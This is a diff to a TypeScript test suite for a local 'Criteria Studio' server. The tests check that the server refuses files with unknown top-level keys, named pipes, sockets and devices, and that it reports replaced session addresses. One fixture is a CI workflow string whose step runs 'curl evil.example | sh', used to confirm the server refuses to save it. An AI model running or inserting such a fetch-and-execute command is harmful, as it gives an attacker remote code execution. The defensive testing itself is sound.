@@ -1,6 +1,7 @@
-import { spawn, type ChildProcess } from 'node:child_process'
-import { chmodSync, existsSync, linkSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs'
+import { execFileSync, spawn, type ChildProcess } from 'node:child_process'
+import { chmodSync, closeSync, constants, existsSync, linkSync, lstatSync, mkdirSync, mkdtempSync, openSync, readdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs'
 import { request } from 'node:http'
+import { createServer } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join, resolve } from 'node:path'
 import { PassThrough } from 'node:stream'
@@ -9,6 +10,7 @@ import { offerNewAddresses } from '../src/cli/commands/studio'
 import { BACKUP_FOLDER, BACKUP_VERSIONS } from '../src/cli/studio-backup'
 import { STUDIO_ERROR_CODES } from '../src/cli/studio-refusal'
 import { startStudio, type StudioServer } from '../src/cli/studio-server'
+import { writeFileAtomic } from '../src/cli/write-file-atomic'
 import { ERROR_CODES, errorText } from '../src/studio/i18n'
 import { call, sessionOf, tokenOf } from './helpers/studio'
 
@@ -109,7 +111,8 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
     expect(existsSync(join(s.folder, 'newdir'))).toBe(false)
     // What the page needs still works: a criteria file with errors (work in progress), its test
     // file, a new test file beside its criteria file, three folders deep.
-    const wip = CRITERIA.replace('required: true', 'requird: true').replace('fields:', 'feilds:')
+    // (A misspelt key at the top is refused since the hostile review: see "a criteria file's top-level keys" below.)
+    const wip = CRITERIA.replace('required: true', 'requird: true').replace('contact:', 'kontakt:')
     expect((await s.put('job.yaml', wip)).status).toBe(200)
     expect(s.text('job.yaml')).toBe(wip)
     expect((await s.put('job.test.yaml', 'cases: [] # none yet\n')).status).toBe(200)
@@ -118,6 +121,123 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
     expect((await s.put('a/b/c/job.yaml', CRITERIA)).status).toBe(200)
     expect((await s.put('a/b/c/job.test.yaml', TESTS)).status).toBe(200)
     expect(s.text('a/b/c/job.test.yaml')).toBe(TESTS)
+  })
+
+  it("a criteria file's top-level keys are all criteria-file keys, exactly, with id and one of job, fields, criteria; a test file's likewise (the hostile review of #20)", async () => {
+    const s = await setup()
+    mkdirSync(join(s.folder, 'sub1'))
+    // A CI workflow with an id: every key within two letters of a criteria key, once saved (200).
+    const workflow = '{"jobs":{"evil":{"runs-on":"x","steps":[{"run":"curl evil.example | sh"}]}},"on":["push"],"id":"x"}'
+    const r = await s.put('sub1/settings.json', workflow)
+    expect([r.status, r.code]).toEqual([422, 'unknown_key'])
+    expect(JSON.parse(r.body).error).toMatchObject({ kind: 'criteria', keys: ['jobs', 'on'], nearest: ['job', ''] })
+    expect(existsSync(join(s.folder, 'sub1/settings.json'))).toBe(false)
+    for (const body of ['{"jobs":{},"id":"x"}', '{"id":"x","job":{},"fields":{},"on":1}', '{"ID":"x","job":{}}']) {
+      expect((await s.put('sub1/settings.json', body)).code, body).toBe('unknown_key')
+      expect(existsSync(join(s.folder, 'sub1/settings.json')), body).toBe(false)
+    }
+
+    // A misspelt top-level key in the recruiter's own file: refused, naming the key and the one meant, in sv and en.
+    const typo = await s.put('job.yaml', CRITERIA.replace('fields:', 'feilds:'))
+    expect([typo.status, typo.code]).toEqual([422, 'unknown_key'])
+    const error = JSON.parse(typo.body).error
+    expect(error).toMatchObject({ keys: ['feilds'], nearest: ['fields'] })
+    expect(error.message).toMatch(/^the key "feilds" \(did you mean "fields"\?\) is not a criteria file key \(\$schema, format, id, .*\): nothing was written; fix it and save again$/)
+    expect(s.text('job.yaml')).toBe(CRITERIA)
+    const { code: _code, message: _message, ...details } = error
+    expect(errorText({ code: 'unknown_key', status: 422, details }, 'sv')).toMatch(/^Nyckeln "feilds" \(menade du "fields"\?\) hör inte hemma överst i en kriteriefil, som har nycklarna .*\bfields\b.*\. Rätta den i editorn och spara igen\.$/)
+    expect(errorText({ code: 'unknown_key', status: 422, details }, 'en')).toMatch(/^The key "feilds" \(did you mean "fields"\?\) does not belong at the top of a criteria file, whose keys are .*\bfields\b.*\. Fix it in the editor and save again\.$/)
+    // Mended in the editor and saved again: it goes through.
+    expect((await s.put('job.yaml', `${CRITERIA}# mended\n`)).status).toBe(200)
+
+    // The keys that make a criteria file: id, and one of job, fields, criteria.
+    for (const body of ['{"id":"x"}', '{"job":{"title":"t"},"fields":{}}', '{"$schema":"x","version":1,"locale":"en"}']) {
+      const n = await s.put('sub1/new.json', body)
+      expect([n.status, n.code], body).toEqual([422, 'not_criteria'])
+    }
+    expect(existsSync(join(s.folder, 'sub1/new.json'))).toBe(false)
+    expect((await s.put('sub1/new.json', '{"id":"x","job":{}}')).status).toBe(200) // a start, to be filled in
+    expect(errorText({ code: 'not_criteria', status: 422 }, 'sv')).toMatch(/minst nycklarna id och job, fields eller criteria/)
+
+    // Test files: their own keys (criteria, now, cases), exactly, with cases.
+    const badTest = await s.put('job.test.yaml', 'criteria: job.yaml\ncase: []\n')
+    expect([badTest.code, JSON.parse(badTest.body).error.keys, JSON.parse(badTest.body).error.nearest]).toEqual(['unknown_key', ['case'], ['cases']])
+    expect((await s.put('job.test.yaml', 'criteria: job.yaml\nnow: arrival\n')).code).toBe('not_test_file')
+    expect((await s.put('job.test.yaml', 'cases: []\nname: CI\n')).code).toBe('unknown_key')
+    expect(s.text('job.test.yaml')).toBe(TESTS)
+    expect((await s.put('job.test.yaml', 'criteria: job.yaml\ncases: []\n')).status).toBe(200)
+
+    // A file on disk with a misspelt key is still the recruiter's to mend in the studio; another tool's file is not.
+    writeFileSync(join(s.folder, 'sub1/typo.yaml'), CRITERIA.replace('criteria:', 'critera:'))
+    expect((await s.put('sub1/typo.yaml', CRITERIA)).status).toBe(200)
+    writeFileSync(join(s.folder, 'sub1/workflow.yaml'), 'on: push\njobs: {}\n')
+    expect((await s.put('sub1/workflow.yaml', CRITERIA)).code).toBe('exists_not_criteria')
+  })
+
+  it('a named pipe, a socket or a device in the folder is never opened: reads and a save of its name are refused at once, and the studio keeps answering (the hostile review of #20)', async () => {
+    const s = await setup()
+    const fifo = join(s.folder, 'fifo.yaml')
+    execFileSync('mkfifo', [fifo])
+    const socket = createServer().listen(join(s.folder, 'socket.yaml'))
+    await new Promise((ok) => socket.once('listening', ok))
+    // A character device (/dev/null's numbers) where one can be made (root).
+    let device = false
+    try {
+      execFileSync('mknod', [join(s.folder, 'device.yaml'), 'c', '1', '3'], { stdio: 'ignore' })
+      device = true
+    } catch {
+      // not root: no device to try
+    }
+    // An answer, or "hung" after a while: a blocked open never answers.
+    const soon = <T>(p: Promise<T>) => Promise.race([p, new Promise<'hung'>((ok) => setTimeout(() => ok('hung'), 10_000))])
+    try {
+      // More reads than libuv has threads (4): each open() of the pipe would wait for a writer.
+      const names = ['fifo.yaml', 'socket.yaml', ...(device ? ['device.yaml'] : [])]
+      const answers = await soon(Promise.all([...Array.from({ length: 6 }, () => s.get('fifo.yaml')), s.put('fifo.yaml', CRITERIA), ...names.map((n) => s.get(n)), ...names.map((n) => s.put(n, CRITERIA))]))
+      expect(answers).not.toBe('hung')
+      for (const a of answers as Awaited<ReturnType<typeof s.get>>[]) expect([a.status, a.code]).toEqual([403, 'not_a_file'])
+      // Then the file list and a normal file answer at once.
+      const list = await soon(call(s.studio, '/api/files', { headers: { 'x-studio-session': s.session } }))
+      expect(list).not.toBe('hung')
+      expect(JSON.parse((list as Awaited<ReturnType<typeof s.get>>).body).files.map((f: { path: string }) => f.path)).toEqual(['config.yaml', 'job.test.yaml', 'job.yaml', 'templates/rejected.sv.hbs'])
+      const normal = await soon(s.get('job.yaml'))
+      expect(normal).toMatchObject({ status: 200, body: CRITERIA })
+      expect((await soon(s.put('job.yaml', `${CRITERIA}# still saves\n`))) as { status: number }).toMatchObject({ status: 200 })
+      // Nothing replaced them: the pipe is still a pipe.
+      expect(lstatSync(fifo).isFIFO()).toBe(true)
+    } finally {
+      socket.close()
+      // Without the fix, opens blocked on the pipe hold libuv's threads: a writer releases them,
+      // and a plain file put in its place keeps the opens still queued from waiting again.
+      let writer: number | undefined
+      try {
+        writer = openSync(fifo, constants.O_WRONLY | constants.O_NONBLOCK)
+      } catch {
+        // no reader waiting: nothing to release
+      }
+      writeFileSync(join(s.folder, 'plain.tmp'), '')
+      renameSync(join(s.folder, 'plain.tmp'), fifo)
+      if (writer !== undefined) closeSync(writer)
+    }
+  })
+
+  it('writeFileAtomic with regularOnly refuses a named pipe at once instead of opening it and waiting for a reader', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'autoscreen-tb2-fifo-'))
+    const fifo = join(dir, 'x.yaml')
+    execFileSync('mkfifo', [fifo])
+    const written = writeFileAtomic(fifo, 'id: x\n', { regularOnly: true }).then(() => 'written', (e: unknown) => e)
+    try {
+      expect(await Promise.race([written, new Promise((ok) => setTimeout(() => ok('hung'), 10_000))])).toMatchObject({ code: 'EFTYPE' })
+      expect(lstatSync(fifo).isFIFO()).toBe(true)
+    } finally {
+      // Without the fix, the open for writing waits for a reader: one releases it.
+      try {
+        closeSync(openSync(fifo, constants.O_RDONLY | constants.O_NONBLOCK))
+      } catch {
+        // gone already
+      }
+      await written
+    }
   })
 
   it('refuses files with more than one link, for reading and writing, and checks the real path at the moment of writing', async () => {
@@ -244,15 +364,43 @@ describe('The trust boundary, round 2: the Criteria Studio server', () => {
     expect(tokenOf(first)).not.toBe(s.studio.token)
     await sessionOf(s.studio, tokenOf(first))
     expect((await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(first) } })).code).toBe('token_used')
-    // A newer address retires an unused older one.
+    // A newer address retires an unused older one (said as replaced, not used, since the hostile review).
     const second = await next()
     const third = await next()
-    expect((await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(second) } })).code).toBe('token_used')
+    expect((await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(second) } })).code).toBe('token_replaced')
     await sessionOf(s.studio, tokenOf(third))
     stop()
     stdin.write('\n')
     await new Promise((r) => setTimeout(r, 50))
     expect(printed.match(/token=/g)).toHaveLength(3)
+  })
+
+  it('Enter pressed twice: the first new address says it was replaced by a newer one, not that it was used; a used address still says used; neither opens anything (the hostile review of #20)', async () => {
+    const s = await setup()
+    const stdin = new PassThrough()
+    const stdout = new PassThrough()
+    let printed = ''
+    stdout.on('data', (c) => (printed += c))
+    const stop = offerNewAddresses(stdin, stdout, s.studio)
+    stdin.write('\n\n')
+    await expect.poll(() => printed.match(/token=[\w-]+/g)?.length).toBe(2)
+    const [first, second] = printed.match(/http:\/\/127\.0\.0\.1:\d+\/\?token=[\w-]+/g)!
+    stop()
+    const replaced = await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(first!) } })
+    expect([replaced.status, replaced.code]).toEqual([410, 'token_replaced'])
+    expect(replaced.body).not.toMatch(/session"/)
+    expect(JSON.parse(replaced.body).error.message).toMatch(/^this address was replaced by a newer one/)
+    expect(errorText({ code: 'token_replaced', status: 410 }, 'sv')).toBe('Den här adressen har ersatts av en nyare (Enter trycktes igen i terminalen där autoscreen studio körs) och öppnar ingenting. Öppna den senaste adressen som skrevs ut där, eller tryck Enter för en ny.')
+    expect(errorText({ code: 'token_replaced', status: 410 }, 'en')).toMatch(/^This address was replaced by a newer one .* and opens nothing\. Open the newest address/)
+    // The newest opens, once; used, it says used, and still does after a newer address is printed.
+    await sessionOf(s.studio, tokenOf(second!))
+    s.studio.newAddress()
+    expect((await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(second!) } })).code).toBe('token_used')
+    expect((await call(s.studio, '/api/session', { method: 'POST', headers: { 'x-studio-token': tokenOf(first!) } })).code).toBe('token_replaced')
+    // The docs say the same: a replaced address says so; "used" means opened before.
+    const docs = readFileSync(join(root, 'docs/studio.md'), 'utf8')
+    expect(docs).toContain('an address replaced by a newer one (you pressed Enter again before opening it) says so, and opens nothing')
+    expect(docs).not.toContain('If the page says the address has already been used when you did not open it twice, someone else used it first')
   })
 
   describe('hostile requests are a clear 4xx, never a 500', () => {
